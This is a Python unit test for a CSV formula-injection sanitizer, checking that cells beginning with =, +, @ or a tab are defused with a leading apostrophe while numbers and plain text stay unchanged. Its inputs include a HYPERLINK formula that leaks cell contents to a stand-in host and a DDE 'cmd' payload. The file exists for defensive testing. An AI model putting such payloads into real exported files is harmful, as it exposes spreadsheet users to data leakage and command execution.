from serviceloop.core.csvsafe import safe_cell, safe_row


def test_formulas_are_defused_and_numbers_and_plain_text_are_not() -> None:
    assert safe_cell('=HYPERLINK("http://x/?"&A1,"click")') == '\'=HYPERLINK("http://x/?"&A1,"click")'
    assert safe_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("\t=1+1") == "'\t=1+1"
    assert safe_cell("-12.5") == "-12.5"
    assert safe_cell("- a dash list") == "'- a dash list"
    assert safe_cell(-12.5) == -12.5
    assert safe_cell("Slow again") == "Slow again"
    assert safe_row(["=1", 2, None]) == ["'=1", 2, None]
